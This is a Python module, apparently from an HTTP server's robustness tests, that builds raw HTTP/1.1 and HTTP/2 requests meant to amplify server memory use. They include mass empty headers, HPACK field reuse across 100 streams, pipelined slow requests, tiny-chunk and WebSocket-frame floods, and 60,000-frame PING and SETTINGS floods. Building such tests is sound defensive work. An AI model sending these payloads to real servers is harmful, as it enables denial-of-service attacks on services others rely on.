"""
Requests that are larger as objects than they were as bytes, of peers that read nothing: what each of them sends.
A field takes four bytes in HTTP/1.1, and one in HTTP/2, where a table has it since the first (RFC 7541).
"""

import struct

from hostile.attackers import UPGRADE

POST = b"POST /echo HTTP/1.1\r\nHost: x\r\n"
GET = b"GET / HTTP/1.1\r\nHost: x\r\n"
DELAYED = b"?delay=60s HTTP/1.1\r\nHost: x\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
FIELDS = b"a:\r\n" * 3900
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING = 0, 1, 4, 6
END_STREAM, END_HEADERS = 1, 4
WINDOW_SIZE = 4
FRAME_OF_A_BYTE = b"\x82\x81\0\0\0\0x"


# --- HTTP/2 ------------------------------------------------------------------------------------


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def preface(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", *setting) for setting in settings))


def text(value):
    """Without Huffman's code, of less than 127 bytes."""
    return bytes([len(value)]) + value


def head(method, path, fields=0, first=True):
    """`fields` times the field `a`, which is in the table once the first request has put it there."""
    named = {b"GET": b"\x82", b"POST": b"\x83"}.get(method) or b"\x02" + text(method)
    start = named + b"\x86\x04" + text(path) + b"\x01" + text(b"x")
    return start + (b"\x40" + text(b"a") + text(b"") if fields and first else b"") + b"\xbe" * fields


def literal(name, value):
    return b"\x00" + text(name) + text(value)


def streams(flags, method, path, fields=0, more=b""):
    """100, as many as there may be."""
    for number in range(100):
        yield frame(HEADERS, END_HEADERS | flags, 2 * number + 1, head(method, path, fields, number == 0) + more)


def joined(*parts):
    return b"".join(part if isinstance(part, bytes) else b"".join(part) for part in parts)


SOCKET = literal(b":protocol", b"websocket") + literal(b"sec-websocket-version", b"13")


# --- what is sent ------------------------------------------------------------------------------


REQUESTS = {
    # name: what each peer sends
    "heads": POST + b"Content-Length: 9\r\n" + FIELDS + b"\r\n",
    "half heads": POST + b"Content-Length: 9\r\n" + FIELDS,
    "trailers": POST + CHUNKED + b"0\r\n" + FIELDS,
    "heads in line": b"GET /" + DELAYED + b"\r\n" + 20 * (GET + FIELDS + b"\r\n"),
    "descriptions": 70 * (GET + FIELDS + b"\r\n"),
    "chunks in line": b"POST /echo" + DELAYED + CHUNKED + 40_000 * b"1\r\nx\r\n",
    "frames in line": UPGRADE + 40_000 * FRAME_OF_A_BYTE,
    "streams": joined(preface(), streams(0, b"POST", b"/echo", 450)),
    "descriptions of streams": joined(preface((WINDOW_SIZE, 0)), streams(END_STREAM, b"GET", b"/", 450)),
    "frames of streams": joined(
        preface(),
        streams(0, b"POST", b"/echo?delay=60s"),
        (frame(DATA, 0, 2 * number + 1, b"x") for number in range(4) for _ in range(65_000)),
    ),
    "frames of sockets on streams": joined(
        preface(),
        streams(0, b"CONNECT", b"/", 0, SOCKET),
        (frame(DATA, 0, 2 * number + 1, 2340 * FRAME_OF_A_BYTE) for number in range(15)),
    ),
    "pings": preface() + 60_000 * frame(PING, 0, 0, bytes(8)),
    "settings": preface() + 60_000 * frame(SETTINGS, 0, 0),
}
